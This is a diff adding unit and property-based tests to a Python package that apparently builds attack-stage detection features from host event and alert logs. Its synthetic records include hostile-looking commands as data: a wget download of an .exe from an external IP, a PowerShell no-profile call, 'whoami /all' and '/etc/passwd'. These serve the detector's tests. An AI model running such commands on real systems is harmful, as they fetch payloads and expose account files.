@@ -1,9 +1,11 @@
 """Feature extraction: TF-IDF vocabulary, z-scoring, layouts, projection."""
 import dataclasses
+import json
 import math
 
 import numpy as np
 import pytest
+from hypothesis import example, given, settings, strategies as st
 
 from aptstage.encoder import pack_graphs, project_packed
 from aptstage.errors import CompatibilityError, FitError, ValidationError
@@ -33,15 +35,23 @@ from aptstage.graphs import (
     Relation,
     _KIND_ORDER,
     _RELATION_ORDER,
+    build_graph,
     build_graph_sequence,
+    window_events,
 )
 from aptstage.nn import ParamStore
 from aptstage.telemetry import (
     WINDOW_SECONDS,
+    EntityKind,
+    EventKind,
+    Protocol,
     ScenarioConfig,
     default_campaign_schedule,
     generate_scenario,
+    parse_alerts,
+    parse_host_events,
 )
+from aptstage.telemetry.records import BYTES_KINDS, SELF_EDGE_KINDS
 
 CFG = FeaturizerConfig()
 
@@ -266,6 +276,20 @@ def test_oov_tokens_contribute_nothing():
     x = featurize_graph(novel, vocab, stats)[0][0]
     assert np.all(x[CFG.n_cmd:CFG.n_cmd + CFG.d_cmd] == 0.0)
     assert vocab.token_index == before
+
+
+def test_tfidf_rows_memoized_and_read_only():
+    vocab, stats = fit_vocab_and_stats([tiny_graph()])
+    row = vocab.tfidf("wget payload wget")
+    assert vocab.tfidf("wget payload wget") is row  # the repeat hits the memo
+    col = vocab.token_index["wget"]
+    assert row[col] == 2 * vocab.idf[col]
+    with pytest.raises(ValueError):
+        row[col] = 0.0
+    # the memo is invisible to equality and to the spec hash
+    fresh = dataclasses.replace(vocab)
+    assert fresh == vocab
+    assert feature_spec_hash(fresh, stats, CFG) == feature_spec_hash(vocab, stats, CFG)
 
 
 # ------------------------------------------------ row-wise reference featurizer
@@ -512,3 +536,91 @@ def test_spec_version_refused(tmp_path):
 def test_tokenize_lowercases_and_splits():
     assert tokenize("PowerShell.exe -NoP http://203.0.113.10") == [
         "powershell", "exe", "nop", "http", "203", "0", "113", "10"]
+
+
+# ------------------------------------------------ end to end: JSONL to features
+
+HOSTS = ("10.0.0.1", "10.0.0.2")
+# entity keys: paths, sockets, a host id, and one shaped like an alert node key
+KEYS = ("10.0.0.1/cmd.exe", "10.0.0.1/wget.exe", "C:\\Temp\\p.dll", "/etc/passwd",
+        "9.9.9.9", "9.9.9.9:443", "10.0.0.2", "alert:0:ET SCAN")
+EXTERNAL = ("9.9.9.9", "7.7.7.7")
+# window-relative offsets on a 300 s grid tie records and leave windows empty
+_TS = st.one_of(
+    st.builds(lambda w, off: 300.0 * w + off, st.integers(0, 8),
+              st.sampled_from((0.0, 0.5, 150.0, 299.5))),
+    st.floats(0.0, 2700.0))
+
+
+@st.composite
+def host_event_record(draw):
+    kind = draw(st.sampled_from(list(EventKind)))
+    subj = (draw(st.sampled_from(list(EntityKind))).value, draw(st.sampled_from(KEYS)))
+    obj = (draw(st.sampled_from(list(EntityKind))).value, draw(st.sampled_from(KEYS)))
+    if obj == subj and kind not in SELF_EDGE_KINDS:
+        obj = (obj[0], obj[1] + "#2")
+    rec = {"ts": draw(_TS), "host": draw(st.sampled_from(HOSTS)), "kind": kind.value,
+           "subj_kind": subj[0], "subj_key": subj[1], "obj_kind": obj[0], "obj_key": obj[1]}
+    cmd = draw(st.sampled_from((None, "wget http://9.9.9.9/p.exe", "whoami /all", "")))
+    user = draw(st.sampled_from((None, "root", "alice")))
+    if cmd is not None:
+        rec["cmd"] = cmd
+    if user is not None:
+        rec["user"] = user
+    if kind in BYTES_KINDS and draw(st.booleans()):
+        rec["bytes"] = draw(st.integers(0, 10**9))
+    return rec
+
+
+alert_record = st.fixed_dictionaries({
+    "ts": _TS, "sig": st.sampled_from(("ET SCAN", "ET TROJAN beacon")),
+    "sev": st.floats(0.0, 1.0), "proto": st.sampled_from([p.value for p in Protocol]),
+    "cat": st.sampled_from(("scan", "trojan-activity")),
+    "src_ip": st.sampled_from(HOSTS + EXTERNAL), "src_port": st.integers(0, 65535),
+    "dst_ip": st.sampled_from(HOSTS + EXTERNAL), "dst_port": st.integers(0, 65535)})
+
+
+def _jsonl(records):
+    return "".join(json.dumps(r) + "\n" for r in records)
+
+
+def _record(ts, kind, subj, obj, **extra):
+    return {"ts": ts, "host": HOSTS[0], "kind": kind, "subj_kind": "process",
+            "subj_key": subj, "obj_kind": "file", "obj_key": obj, **extra}
+
+
+_ALERT = {"sig": "ET SCAN", "sev": 0.5, "proto": "tcp", "cat": "scan",
+          "src_ip": HOSTS[0], "src_port": 1, "dst_ip": "7.7.7.7", "dst_port": 2}
+
+
+@settings(max_examples=150)
+@given(st.lists(host_event_record(), max_size=12), st.lists(alert_record, max_size=4))
+# tied events in window 0, windows 1, 3 and 4 empty, window 2 alert-only, and
+# an alert whose external ip no event ever sighted
+@example([_record(0.0, "FileRead", "10.0.0.1/a.exe", "/f"),
+          _record(0.0, "FileWrite", "alert:0:ET SCAN", "/f"),
+          _record(1500.0, "FileRead", "10.0.0.1/a.exe", "/g")],
+         [dict(_ALERT, ts=650.0), dict(_ALERT, ts=0.0)])
+def test_jsonl_to_features_property(event_records, alert_records):
+    events = parse_host_events(_jsonl(event_records))
+    alerts = parse_alerts(_jsonl(alert_records))
+    stamps = [r["ts"] for r in event_records + alert_records]
+    graphs = [build_graph(w) for w in window_events(events, alerts)]
+    if not stamps:
+        assert graphs == []
+        return
+    assert len(graphs) == math.floor((max(stamps) - min(stamps)) / WINDOW_SECONDS) + 1
+
+    fcfg = FeaturizerConfig(8, 3, 5, 2)
+    vocab, stats = fit_vocab_and_stats(graphs, fcfg)
+    n_alert_nodes = n_triggered = 0
+    for g in graphs:
+        g.validate()
+        X, Z = featurize_graph(g, vocab, stats, fcfg)
+        assert np.isfinite(X).all() and np.isfinite(Z).all()
+        alert_nodes = {i for i, nd in enumerate(g.nodes) if nd.kind is NodeKind.ALERT}
+        triggered = [e.src for e in g.edges if e.relation is Relation.TRIGGERED_BY]
+        assert sorted(triggered) == sorted(alert_nodes)  # one edge out of each alert
+        n_alert_nodes += len(alert_nodes)
+        n_triggered += len(triggered)
+    assert n_alert_nodes == n_triggered == len(alerts)
